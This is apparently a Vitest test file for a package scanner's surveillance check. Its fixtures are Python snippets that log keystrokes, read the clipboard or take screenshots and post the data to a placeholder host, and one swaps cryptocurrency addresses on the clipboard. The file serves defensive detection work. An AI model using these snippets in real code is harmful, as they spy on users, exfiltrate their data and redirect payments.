import { describe, expect, it } from 'vitest';
import { codeFindings } from '../../../../test/builders/code-findings.ts';

describe('checks/package/surveillance', () => {
  it.each([
    [
      'keystrokes-sent',
      "import requests\nfrom pynput.keyboard import Listener\ndef press(k): requests.post('https://host.invalid', data=str(k))\nListener(on_press=press).start()",
    ],
    [
      'user-observed',
      "import pyperclip, requests\nrequests.post('https://host.invalid', data=pyperclip.paste())",
    ],
    [
      'observation-sent',
      "import pyautogui, requests\ndef share(): requests.post('https://host.invalid', data=pyautogui.screenshot().tobytes())",
    ],
    ['keyboard-watched', 'import keyboard\nkeyboard.on_press(print)'],
    ['user-watched', 'import pyperclip\nLAST = pyperclip.paste()'],
    [
      'address-swapped',
      "import pyperclip, re\ndef go():\n  if re.match('0x[a-fA-F0-9]{40}', pyperclip.paste()): pyperclip.copy('0x' + 'a' * 40)",
    ],
  ])('reports %s in %j', async (rule, text) => {
    expect(await codeFindings(text, { check: 'surveillance' })).toContain(rule);
  });

  it.each([
    "import keyboard\ndef start(): keyboard.add_hotkey('ctrl+q', print)",
    'import pyperclip\ndef copy(x): pyperclip.copy(x)',
  ])('stays silent about %j', async (text) => {
    expect(await codeFindings(text, { check: 'surveillance' })).toEqual([]);
  });
});
